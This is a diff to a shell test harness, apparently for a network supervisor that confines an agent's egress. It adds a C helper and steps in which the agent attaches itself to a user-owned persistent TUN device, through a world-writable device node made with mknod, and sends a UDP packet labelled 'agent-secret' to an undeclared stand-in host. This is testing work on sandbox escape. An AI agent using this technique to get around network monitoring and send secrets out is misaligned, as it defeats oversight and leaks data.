@@ -9,7 +9,8 @@
 # review-net.sh (five namespaces ha38ta, ...); in ha38ta the caller makes
 # t0 (10.38.0.1/24) and forwarding is on; the agent writes a UDP packet
 # from 10.38.0.2 to 203.0.113.66:9999, the undeclared host ha38tx on a1's
-# link.
+# link. Mode attach: the agent opens /dev/net/tun itself and attaches to
+# t1, a persistent TUN device owned by uid 1000 (no capability needed).
 #
 # Supervisor: --no-loopback --allow 198.51.100.7:9999, as uid 1000 (as root
 # with REVIEW_AS_ROOT=1: the root check refuses the device, the control).
@@ -23,13 +24,21 @@ mkdir -p /tmp/ha38 && chmod 777 /tmp/ha38
 # one keeps the run free of the interpreter's own calls.
 cat >/tmp/ha38/tunwrite.c <<'C'
 #include <arpa/inet.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/if.h>
+#include <linux/if_tun.h>
 #include <netinet/ip.h>
 #include <netinet/udp.h>
 #include <stdio.h>
 #include <string.h>
+#include <sys/ioctl.h>
 #include <unistd.h>
-/* Writes one IPv4/UDP packet 10.38.0.2:4242 -> DEST:9999 holding MSG to
- * descriptor 0 (a TUN device without packet information). */
+/* tunwrite DEST MSG [IFNAME [TUNPATH]]: writes one IPv4/UDP packet 10.38.0.2:4242 ->
+ * DEST:9999 holding MSG to descriptor 0 (a TUN device without packet
+ * information), or, with IFNAME, to a descriptor of its own attached to
+ * that persistent TUN device (TUNSETIFF: no capability when the device's
+ * owner is the caller's uid). */
 static unsigned short csum(const void *p, size_t n)
 {
 	const unsigned char *b = p;
@@ -61,9 +70,21 @@ int main(int argc, char **argv)
 	u->dest = htons(9999);
 	u->len = htons((unsigned short)(8 + n));
 	memcpy(pkt + 28, msg, n);
-	ssize_t w = write(0, pkt, 28 + n);
-	printf("ha38-tun: write(0, %zu-byte packet to %s:9999) -> %zd\n", 28 + n,
+	int fd = 0;
+	if (argc > 3) {
+		struct ifreq ifr = {.ifr_flags = IFF_TUN | IFF_NO_PI};
+		strncpy(ifr.ifr_name, argv[3], IFNAMSIZ - 1);
+		fd = open(argc > 4 ? argv[4] : "/dev/net/tun", O_RDWR);
+		int rc = fd < 0 ? -1 : ioctl(fd, TUNSETIFF, &ifr);
+		printf("ha38-tun: open /dev/net/tun -> %d, TUNSETIFF %s -> %d%s%s\n", fd, argv[3], rc,
+		       rc < 0 ? " " : "", rc < 0 ? strerror(errno) : "");
+		if (rc < 0)
+			return 1;
+	}
+	ssize_t w = write(fd, pkt, 28 + n);
+	printf("ha38-tun: write(%d, %zu-byte packet to %s:9999) -> %zd\n", fd, 28 + n,
 	       argc > 1 ? argv[1] : "203.0.113.66", w);
+	fflush(stdout);
 	return w < 0;
 }
 C
@@ -88,7 +109,20 @@ PY
 # supervisor as uid 1000 unless REVIEW_AS_ROOT=1.
 as=(setpriv --reuid 1000 --regid 1000 --clear-groups)
 [ "${REVIEW_AS_ROOT:-0}" = 1 ] && as=()
+# A persistent TUN device of uid 1000's own (as `ip tuntap add ... user
+# 1000` leaves one for a VPN client or a QEMU of the user's), which the
+# agent attaches itself: no descriptor of the caller's needed.
+ip -n ha38ta tuntap add dev t1 mode tun user 1000
+ip -n ha38ta addr add 10.38.1.1/24 dev t1
+ip -n ha38ta link set t1 up
+# systemd's udev rules make /dev/net/tun mode 0666 (50-udev-default.rules:
+# KERNEL=="tun", MODE="0666"); this host has no udev and keeps 0600, so
+# the agent opens a node of the same device made so.
+rm -f /tmp/ha38/net-tun
+mknod -m 0666 /tmp/ha38/net-tun c 10 200
 for r in $(seq "${ROUNDS:-1}"); do
+	review_net_run ha38t "$d" "attach.$r" -- "$d/sv" --allow 198.51.100.7:9999 -- \
+		"$d/agent" 203.0.113.66 "agent-secret via its own attach to t1, round $r" t1 /tmp/ha38/net-tun
 	REVIEW_AS_ROOT=1 review_net_run ha38t "$d" "tun.$r" -- /usr/bin/python3 "$d/caller.py" \
 		"${as[@]}" "$d/sv" --allow 198.51.100.7:9999 -- "$d/agent" 203.0.113.66 \
 		"agent-secret via a TUN on stdin, round $r"
